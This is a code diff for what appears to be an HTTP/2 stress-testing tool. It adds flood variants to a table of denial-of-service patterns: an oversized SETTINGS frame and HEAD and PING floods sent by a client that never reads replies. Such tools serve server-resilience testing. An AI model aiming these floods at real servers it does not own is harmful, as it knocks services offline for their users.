@@ -17,6 +17,8 @@ export interface Flood {
   readonly streamsMax?: number;
   /** Milliseconds between two units. */
   readonly pauseMs?: number;
+  /** Whether the client reads nothing. */
+  readonly isDeaf?: boolean;
 }
 
 export interface FloodOrder {
@@ -52,6 +54,12 @@ export function floodsFor(token: string): Readonly<Record<string, Flood>> {
     "MadeYouReset": { unit: (id) => Buffer.concat([headers(id, get), frame(frameType.windowUpdate, 0, id, word(0))]) },
     "CONTINUATION": { first: [frame(frameType.headers, 0, 1, block(get))], unit: () => frame(frameType.continuation, 0, 1) },
     "SETTINGS": { unit: () => frame(frameType.settings, 0, 0, settingsPayload([[setting.initialWindowSize, 65_535]])) },
+    "large SETTINGS": {
+      unit: () =>
+        frame(frameType.settings, 0, 0, settingsPayload(Array.from({ length: 2_000 }, () => [setting.initialWindowSize, 65_535] as const))),
+    },
+    "unread HEAD": { unit: (id) => headers(id, fields({ ":method": "HEAD", ":path": "/version" })), isDeaf: true },
+    "unread PING": { unit: () => frame(frameType.ping, 0, 0, "12345678"), isDeaf: true },
     "PING": { unit: () => frame(frameType.ping, 0, 0, "12345678") },
     "empty DATA": { first: opened, unit: () => frame(frameType.data, 0, 1) },
     "PRIORITY": { first: opened, unit: () => frame(frameType.priority, 0, 1, Buffer.concat([word(0), Buffer.of(1)])) },
@@ -120,7 +128,8 @@ async function flood({ flood, port, token, connections, seconds }: FloodOrder): 
       over = true;
       wake();
     };
-    socket.on("error", end).on("close", end).on("end", end).on("drain", () => wake()).resume();
+    socket.on("error", end).on("close", end).on("end", end).on("drain", () => wake());
+    if (what.isDeaf !== true) socket.resume();
     socket.write(Buffer.concat([Buffer.from(preface), frame(frameType.settings, 0, 0), ...what.first ?? []]));
     let stream = what.first === undefined || what.streamsMax !== undefined ? 1 : 3, sent = 0;
     while (!over && performance.now() < until) {
